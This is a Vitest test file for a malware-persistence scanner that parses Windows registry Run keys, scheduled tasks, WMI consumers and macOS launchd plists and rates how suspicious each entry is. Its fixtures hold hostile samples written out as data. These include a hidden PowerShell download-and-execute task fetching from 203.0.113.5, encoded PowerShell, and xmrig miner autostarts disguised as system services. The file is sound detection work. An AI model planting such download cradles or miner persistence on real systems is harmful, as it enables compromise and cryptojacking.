import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { DomainList } from '../main/engine/detect/mining-domains.js';
import { parseCsv } from '../main/engine/scan/csv.js';
import { collectLaunchd, launchdCommand, parseLaunchdPlist } from '../main/engine/scan/darwin-launchd.js';
import { runDeepScan } from '../main/engine/scan/deep-scan.js';
import { judgeEntry } from '../main/engine/scan/persistence-checks.js';
import { ScanContext } from '../main/engine/scan/scan-context.js';
import { nodeScanFs } from '../main/engine/scan/scan-fs.js';
import {
  collectWindowsPersistence,
  parseRegQuery,
  parseSchtasksCsv,
  parseWmiConsumersCsv,
  RUN_KEYS,
  type ToolRunner,
  WMI_SCRIPT,
} from '../main/engine/scan/windows-persistence.js';
import type { RunResult } from '../main/engine/util/exec.js';

// Hand-made samples in the tools' own layouts (English Windows, CRLF line ends).
const REG_RUN = [
  '',
  'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
  '    OneDrive    REG_SZ    "C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
  '    Windows Update Helper    REG_EXPAND_SZ    %APPDATA%\\svchost.exe -o pool.minexmr.com:4444',
  '    Empty    REG_SZ',
  '',
].join('\r\n');

const SCHTASKS_HEADER =
  '"HostName","TaskName","Next Run Time","Status","Logon Mode","Last Run Time","Last Result","Author","Task To Run","Start In","Comment","Scheduled Task State","Idle Time","Power Management","Run As User"';
const SCHTASKS = [
  SCHTASKS_HEADER,
  '"PC","\\Microsoft\\Windows\\Defrag\\ScheduledDefrag","N/A","Ready","Interactive/Background","1/1/2024 1:00:00 AM","0","Microsoft Corporation","%windir%\\system32\\defrag.exe -c -h -o -$","N/A","Optimizes drives","Enabled","Disabled","","SYSTEM"',
  '"PC","\\Updater","1/2/2024 9:00:00 AM","Ready","Interactive/Background","N/A","267011","bob","powershell.exe -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a.ps1\')""","N/A","N/A","Enabled","Disabled","","bob"',
  '"PC","\\Updater","1/2/2024 9:00:00 AM","Ready","Interactive/Background","N/A","267011","bob","powershell.exe -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.5/a.ps1\')""","N/A","N/A","Enabled","Disabled","","bob"',
  SCHTASKS_HEADER,
  '"PC","\\Microsoft\\Windows\\Shell\\CreateObjectTask","N/A","Ready","Interactive only","N/A","1","Microsoft","COM handler","N/A","N/A","Enabled","Disabled","","Users"',
  '"PC","\\Miner","N/A","Running","Interactive/Background","N/A","0","N/A","C:\\ProgramData\\xmrig.exe --donate-level 1","N/A","N/A","Enabled","Disabled","","SYSTEM"',
  '',
].join('\r\n');

const WMI = [
  '"Kind","Name","Command"',
  '"CommandLine","Updater","powershell.exe -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0ACAAUwB5AHMAdABlAG0A"',
  '"ActiveScript","Helper","C:\\Windows\\Temp\\u.vbs"',
  '"CommandLine","Empty",""',
].join('\r\n');

const PLIST = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
<plist version="1.0">
<dict>
\t<key>Label</key>
\t<string>com.apple.sysupdate</string>
\t<key>ProgramArguments</key>
\t<array>
\t\t<string>/Users/Shared/.sys/xmrig</string>
\t\t<string>-o</string>
\t\t<string>pool.hashvault.pro:443</string>
\t</array>
\t<key>RunAtLoad</key>
\t<true/>
\t<key>KeepAlive</key>
\t<dict><key>SuccessfulExit</key><false/></dict>
</dict>
</plist>
`;

const domains = new DomainList(['minexmr.com', 'hashvault.pro'], 'test');

function result(stdout: string, ok = true, code: number | null = 0): RunResult {
  return { ok, stdout, stderr: '', code, timedOut: false, ...(ok ? {} : { error: `failed with ${code}` }) };
}

describe('Windows persistence parsers', () => {
  it('reads reg query output: key, names with spaces, types, empty data', () => {
    expect(parseRegQuery(REG_RUN)).toEqual([
      {
        key: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        name: 'OneDrive',
        type: 'REG_SZ',
        data: '"C:\\Users\\bob\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
      },
      {
        key: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        name: 'Windows Update Helper',
        type: 'REG_EXPAND_SZ',
        data: '%APPDATA%\\svchost.exe -o pool.minexmr.com:4444',
      },
      {
        key: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        name: 'Empty',
        type: 'REG_SZ',
        data: '',
      },
    ]);
    expect(parseRegQuery('ERROR: The system was unable to find the specified registry key or value.\r\n')).toEqual([]);
  });

  it('reads schtasks CSV: repeated headers, duplicate trigger rows and COM handlers skipped, quotes unescaped', () => {
    const tasks = parseSchtasksCsv(SCHTASKS);
    expect(tasks.map((t) => [t.name, t.command, t.runAs])).toEqual([
      ['\\Microsoft\\Windows\\Defrag\\ScheduledDefrag', '%windir%\\system32\\defrag.exe -c -h -o -$', 'SYSTEM'],
      [
        '\\Updater',
        `powershell.exe -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')"`,
        'bob',
      ],
      ['\\Miner', 'C:\\ProgramData\\xmrig.exe --donate-level 1', 'SYSTEM'],
    ]);
    expect(tasks[2]?.author).toBeNull();
  });

  it('reads WMI consumers from the CSV its fixed PowerShell script prints', () => {
    expect(parseWmiConsumersCsv(WMI)).toEqual([
      {
        kind: 'CommandLine',
        name: 'Updater',
        command: expect.stringMatching(/^powershell\.exe -enc /),
        bound: null,
        filter: null,
      },
      { kind: 'ActiveScript', name: 'Helper', command: 'C:\\Windows\\Temp\\u.vbs', bound: null, filter: null },
    ]);
    expect(parseWmiConsumersCsv('')).toEqual([]);
    expect(WMI_SCRIPT).not.toMatch(/\$\{/);
  });

  it('parses CSV with quoted newlines, a byte-order mark and no final newline', () => {
    expect(parseCsv('\ufeff"a","b\nc"\r\n"d""e",f')).toEqual([
      ['a', 'b\nc'],
      ['d"e', 'f'],
    ]);
  });

  it('collects through the tools with fixed arguments, judges each entry, and reports failing tools', async () => {
    const calls: string[][] = [];
    const run: ToolRunner = async (file, args) => {
      calls.push([file, ...args]);
      if (file === 'reg') return args[1] === RUN_KEYS[0] ? result(REG_RUN) : result('', false, 1);
      if (file === 'schtasks') return result(SCHTASKS);
      return result('', false, null);
    };
    const ctx = new ScanContext('win32', '/', nodeScanFs, undefined);
    const entries = await collectWindowsPersistence(ctx, run);
    expect(calls.filter((c) => c[0] === 'reg')).toHaveLength(RUN_KEYS.length);
    expect(calls.find((c) => c[0] === 'powershell.exe')?.at(-1)).toBe(WMI_SCRIPT);
    expect(ctx.problems.map((p) => p.message)).toEqual([
      'WMI subscriptions: failed with null',
      'Defender exclusions: failed with null',
    ]);

    const verdicts = entries.map((e) => [e.kind, e.location, judgeEntry(e, 'win32', domains)?.severity ?? null]);
    expect(verdicts).toEqual([
      ['registry-run', 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run : OneDrive', null],
      [
        'registry-run',
        'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run : Windows Update Helper',
        'high',
      ],
      ['scheduled-task', '\\Microsoft\\Windows\\Defrag\\ScheduledDefrag', null],
      ['scheduled-task', '\\Updater', 'medium'],
      ['scheduled-task', '\\Miner', 'high'],
    ]);
    const helper = judgeEntry(entries[1]!, 'win32', domains);
    expect(helper?.reasons).toEqual([
      'runs %APPDATA%\\svchost.exe from the root of %APPDATA%',
      'runs %APPDATA%\\svchost.exe, named like the system program svchost.exe, which lives in C:\\Windows (System32)',
      'miner signature: command line has a mining pool host (minexmr.com)',
      'names a mining domain: pool.minexmr.com (listed as minexmr.com)',
    ]);
    expect(judgeEntry(entries[3]!, 'win32', domains)?.reasons).toEqual(['downloads PowerShell code and runs it']);
  });

  it('runs as the persistence step of a Windows scan, with manual removal steps', async () => {
    const run: ToolRunner = async (file, args) => {
      if (file === 'reg') return args[1] === RUN_KEYS[0] ? result(REG_RUN) : result('', false, 1);
      if (file === 'schtasks') return result(SCHTASKS);
      return result(WMI);
    };
    const r = await runDeepScan({
      platform: 'win32',
      runTool: run,
      domains,
      steps: ['persistence'],
      snapshot: async () => ({ procs: [], listed: new Set(), unreadable: 0 }),
    });
    const byLocation = new Map(r.findings.map((f) => [f.persistence?.location, f]));
    expect(byLocation.get('\\Miner')?.actions).toEqual([
      { kind: 'manual', text: 'Delete the task "\\Miner" in Task Scheduler (or schtasks /delete /tn "\\Miner" /f)' },
    ]);
    expect(byLocation.get('WMI CommandLineEventConsumer "Updater"')?.evidence[0]).toBe(
      'runs encoded (hidden) PowerShell code',
    );
    expect(byLocation.get('WMI ActiveScriptEventConsumer "Helper"')?.severity).toBe('high');
    expect(r.persistence).toHaveLength(7);
    expect(r.steps.find((s) => s.id === 'hidden')?.status).toBe('skipped');
  });
});

describe('macOS launchd jobs', () => {
  const root = mkdtempSync(join(tmpdir(), 'iw-mac-'));
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it('reads Label, ProgramArguments, RunAtLoad, KeepAlive and the line of the program', () => {
    const job = parseLaunchdPlist(PLIST);
    expect(job).toEqual({
      label: 'com.apple.sysupdate',
      program: null,
      args: ['/Users/Shared/.sys/xmrig', '-o', 'pool.hashvault.pro:443'],
      runAtLoad: true,
      keepAlive: true,
      disabled: false,
      triggers: [],
      line: 7,
    });
    expect(launchdCommand(job)).toBe('/Users/Shared/.sys/xmrig -o pool.hashvault.pro:443');
    expect(launchdCommand({ ...job, program: '/bin/my tool', args: ['tool', 'a b'] })).toBe(`'/bin/my tool' 'a b'`);
    expect(() => parseLaunchdPlist('<plist><dict>')).toThrow(/unclosed/);
  });

  it('collects system and user agents, converting binary plists with plutil', async () => {
    mkdirSync(join(root, 'Library/LaunchAgents'), { recursive: true });
    mkdirSync(join(root, 'Users/alice/Library/LaunchAgents'), { recursive: true });
    writeFileSync(join(root, 'Library/LaunchAgents/com.apple.sysupdate.plist'), PLIST);
    writeFileSync(join(root, 'Users/alice/Library/LaunchAgents/com.example.bin.plist'), 'bplist00\u0000binary');
    writeFileSync(join(root, 'Users/alice/Library/LaunchAgents/readme.txt'), 'not a plist');
    const calls: string[][] = [];
    const run: ToolRunner = async (file, args) => {
      calls.push([file, ...args]);
      return result(
        PLIST.replace('/Users/Shared/.sys/xmrig', '/usr/local/bin/good-tool').replace(
          /<string>-o[\s\S]*?<\/array>/,
          '</array>',
        ),
      );
    };
    const ctx = new ScanContext('darwin', root, nodeScanFs, undefined);
    const entries = await collectLaunchd(ctx, run);
    expect(calls).toEqual([
      [
        'plutil',
        '-convert',
        'xml1',
        '-o',
        '-',
        '--',
        join(root, 'Users/alice/Library/LaunchAgents/com.example.bin.plist'),
      ],
    ]);
    expect(entries.map((e) => [e.file, e.line, e.command, e.runAs])).toEqual([
      [
        join(root, 'Library/LaunchAgents/com.apple.sysupdate.plist'),
        7,
        '/Users/Shared/.sys/xmrig -o pool.hashvault.pro:443',
        'each user who logs in',
      ],
      // A binary plist has no line to point at.
      [join(root, 'Users/alice/Library/LaunchAgents/com.example.bin.plist'), null, '/usr/local/bin/good-tool', 'alice'],
    ]);
    const verdict = judgeEntry(entries[0]!, 'darwin', domains);
    expect(verdict?.severity).toBe('high');
    expect(verdict?.reasons.join('\n')).toMatch(/Users\/Shared/);
    expect(verdict?.reasons.join('\n')).toMatch(/hashvault\.pro/);
    expect(judgeEntry(entries[1]!, 'darwin', domains)).toBeNull();
    expect(entries[1]?.notes).toContain('binary plist (read through plutil)');
  });

  it('flags daemons run from temporary folders and miner signatures, with their triggers, root agents included', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'iw-mac2-'));
    try {
      mkdirSync(join(dir, 'Library/LaunchDaemons'), { recursive: true });
      mkdirSync(join(dir, 'var/root/Library/LaunchAgents'), { recursive: true });
      const plist = (label: string, body: string): string =>
        `<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">\n<dict>\n<!-- a comment -->\n<key>Label</key><string>${label}</string>\n${body}\n</dict>\n</plist>\n`;
      writeFileSync(
        join(dir, 'Library/LaunchDaemons/com.apple.cache.plist'),
        plist(
          'com.apple.cache',
          '<key>Program</key><string>/private/var/folders/xy/T/.update/kworker</string>\n<key>StartInterval</key><integer>300</integer>\n<key>Disabled</key><true/>',
        ),
      );
      writeFileSync(
        join(dir, 'var/root/Library/LaunchAgents/org.helper.plist'),
        plist(
          'org.helper',
          '<key>ProgramArguments</key><array><string>/usr/local/bin/helper</string><string>--donate-level=1</string><string>-o</string><string>stratum+tcp://198.51.100.7:3333</string></array>\n<key>WatchPaths</key><array><string>/etc</string></array>',
        ),
      );
      writeFileSync(
        join(dir, 'Library/LaunchDaemons/com.vendor.updater.plist'),
        plist(
          'com.vendor.updater',
          '<key>ProgramArguments</key><array><string>/Library/Vendor/updater</string></array>',
        ),
      );
      const ctx = new ScanContext('darwin', dir, nodeScanFs, undefined);
      const entries = await collectLaunchd(ctx, async () => result('', false, 1));
      const byLabel = new Map(entries.map((e) => [e.location, e]));
      const cache = byLabel.get('com.apple.cache');
      expect(cache?.runAs).toBe('root');
      expect(cache?.notes).toEqual([
        'started every 300 s (StartInterval)',
        'marked Disabled in the plist (launchctl can still enable it)',
      ]);
      const cacheVerdict = judgeEntry(cache!, 'darwin', domains);
      expect(cacheVerdict?.severity).toBe('high');
      expect(cacheVerdict?.reasons.join('\n')).toMatch(/temporary folder \(\/var\/folders\)/);
      const helper = byLabel.get('org.helper');
      expect(helper?.runAs).toBe('root');
      expect(helper?.home).toBe('/var/root');
      expect(helper?.notes).toEqual(['started whenever a watched file changes (WatchPaths)']);
      expect(judgeEntry(helper!, 'darwin', domains)?.reasons.join('\n')).toMatch(/miner signature/);
      expect(judgeEntry(byLabel.get('com.vendor.updater')!, 'darwin', domains)).toBeNull();
      expect(ctx.problems).toEqual([]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
